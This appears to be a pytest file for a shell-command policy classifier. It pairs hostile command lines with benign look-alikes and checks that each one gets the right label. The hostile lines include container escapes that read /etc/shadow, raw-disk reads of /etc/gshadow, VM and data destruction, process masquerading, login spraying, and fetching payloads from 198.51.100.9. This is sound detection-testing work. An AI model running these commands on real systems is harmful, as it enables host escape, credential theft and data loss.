"""The readers added or widened for the classes a twelfth blind probe (tests/corpus/probe12: what
attackers type once they have a shell) found unread, each in spellings of our own with its nearest
everyday look-alike (none is a corpus entry): libvirt and Proxmox machines removed with their disks,
in-place edits of a hypervisor's datastores, the only-installed-binaries switch under any option
path; a disk's file system read beneath its permissions; runc's leaked descriptor spelled --cwd;
a program shown under another system program's name; a script in a world-writable folder run as
root; a shell keeping set-uid rights; exploits named as such; a macOS account hidden from the login
window; a workload's container command; Ruby handed to knife/rails; Perl fetching a URL in its own
quoting operators."""

from __future__ import annotations

import pytest
from dsh_policy.cmdline.effects import shell_acts
from dsh_policy.cmdline.interpreters import analyze
from dsh_policy.cmdline.shell import shell_commands


def kinds(line: str) -> set[str]:
    return {effect["kind"] for effect in shell_acts(line)}


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        # hypervisors (cmdline/effects/hypervisor.py)
        ("virsh undefine build-vm --remove-all-storage", "erase-contents"),
        ("virsh -c qemu:///system vol-delete --pool default web.qcow2", "erase-contents"),
        ("virsh snapshot-delete db01 --current", "erase-contents"),
        ("virsh destroy db01", "outage"),
        ("qm destroy 104 --purge", "erase-contents"),
        ("pct stop 201", "outage"),
        ("perl -pi -e 's/scsi0:0/scsi0:9/' /vmfs/volumes/ds2/app/app.vmx", "erase-contents"),
        ("esxcli system settings advanced set -i 0 -o /VMkernel/Boot/execInstalledOnly", "defense-off"),
        # a disk's files read beneath their permissions (cmdline/effects/host.py)
        ("debugfs -R 'cat /etc/gshadow' /dev/nvme0n1p2", "memory-access"),
        ("icat /dev/mapper/vg0-root 131077", "memory-access"),
        # runc's leaked descriptor (cmdline/effects/reach.py)
        ("crun exec --cwd /proc/self/fd/6 web sh", "host-escape"),
        ("ctr run --cwd /proc/self/fd/9 -t docker.io/library/busybox:1 c1 sh", "host-escape"),
        # masquerading, root running temp scripts, privileged-mode shells, exploits
        ("exec -a /usr/lib/systemd/systemd-udevd ./payload", "defense-off"),
        ("sudo perl /dev/shm/job.pl", "privilege"),
        ("doas sh /var/tmp/fix.sh", "privilege"),
        # any shell or Python the shared tables name, from any shared scratch folder (programs.py, model.py)
        ("sudo pypy3 /run/shm/t.py", "privilege"),
        ("pkexec mksh /private/tmp/step", "privilege"),
        ("/var/tmp/.copy/zsh -p", "privilege"),
        ("./root-exploit /usr/bin/passwd", "privilege"),
        ("gcc -o x privesc_exploit.c", "privilege"),
        # a chroot inside a container enters the host's mounted root (cmdline/effects/escape.py)
        ("kubectl exec -it node-shell-x -- chroot /node-root sh -c 'cat /etc/shadow'", "host-escape"),
        ("podman run --rm -v /:/r alpine chroot /r /bin/sh", "host-escape"),
        ("crictl exec -it 4f2a chroot /host bash", "host-escape"),
        # programs run from dot-names of world-writable folders (cmdline/effects/host.py)
        ("setsid /dev/shm/.cache/.kthread -c conf &", "defense-off"),
        ("cd /var/tmp && ./.sync/agent --daemon", "defense-off"),
        # files overwritten for what another command lists (cmdline/effects/chosen_operands.py)
        ("find /srv -name '*.db' -print0 | xargs -0 shred -zu", "erase-contents"),
        ("srm -r $(ls -d /home/*/)", "erase-contents"),
        # login sprayers over a range (cmdline/effects/availability.py)
        ("nxc smb 192.0.2.0/24 -u admin -p Winter2025!", "scan"),
        ("medusa -h 198.51.100.7 -u root -P words.lst -M ssh", "scan"),
        # macOS accounts hidden from the login window
        ("sudo defaults write /Library/Preferences/com.apple.loginwindow Hide500Users -bool YES", "account"),
    ],
)
def test_class_is_read(line: str, kind: str) -> None:
    assert kind in kinds(line), shell_acts(line)


@pytest.mark.parametrize(
    ("line", "inner"),
    [
        # a workload's container command is listed like a local one (cmdline/shell/unwrap.py)
        ("kubectl create job warmup --image=busybox -- wget -qO /tmp/w http://198.51.100.9/w", "wget"),
        ("kubectl -n ops create cronjob tick --image=alpine --schedule='*/5 * * * *' -- nc -lk 4444", "nc"),
        # Ruby handed to knife exec / rails runner is read as ruby -e
        ("knife exec -E 'puts Chef::Config[:node_name]'", "ruby"),
        ("rails runner 'User.count'", "ruby"),
        # the runtimes' own clients run their command inside the container too
        ("crictl -r unix:///run/k.sock exec -it --timeout 5 4f2a cat /etc/os-release", "cat"),
        ("ctr -n k8s.io run --rm -t --mount type=bind,src=/,dst=/h alpine:3 dbg ls /h", "ls"),
        ("ctr task exec --exec-id e1 -t web df -h", "df"),
    ],
)
def test_wrapped_command_is_listed(line: str, inner: str) -> None:
    assert any(c[0] == inner for c in shell_commands(line)), shell_commands(line)


@pytest.mark.parametrize(
    "code", ["getprint(qq{http://198.51.100.9/p})", "getstore(q(https://198.51.100.9/b), '/tmp/b')"]
)
def test_perl_fetch_in_its_own_quotes_is_a_connection(code: str) -> None:
    assert any(e["kind"] == "connect" for e in analyze(code, "perl").effects), analyze(code, "perl")


@pytest.mark.parametrize(
    "line",
    [
        "virsh list --all",
        "virsh snapshot-create-as db01 before-upgrade",
        "virsh start db01",
        "qm list",
        "qm snapshot 104 pre-update",
        "sed -n '/memsize/p' /vmfs/volumes/ds2/app/app.vmx",
        "debugfs -V",
        "sudo fsck -n /dev/sdb1",
        "runc exec --cwd /app web ls",
        'exec -a "$0" /usr/lib/app/bin/app "$@"',
        "exec -a -bash bash",
        "sudo python3 ./scripts/migrate.py",
        "sudo bash /workspace/deploy/install.sh",
        "sudo node /srv/app/tmp/seed.js",
        "python3 /tmp/scratch/plot.py",
        "bash -c 'echo -p'",
        "python3 exploits_report.py --format md",
        "defaults write com.apple.finder ShowPathbar -bool true",
        "cat /tmp/.cache/build.log && /tmp/tool-build/bin/tool --version",
        "cd /tmp && ./configure --prefix=$HOME/.local",
        "shred -u ./secrets/test-key.pem",
        "hydra -l admin -P list.txt 127.0.0.1 http-get /",
        "sudo chroot /srv/buildroot /bin/bash -c 'make'",
        "docker exec -it api ls /srv",
    ],
)
def test_look_alike_is_not(line: str) -> None:
    assert not kinds(line) & {
        "erase-contents",
        "outage",
        "defense-off",
        "memory-access",
        "host-escape",
        "privilege",
        "account",
    }, shell_acts(line)
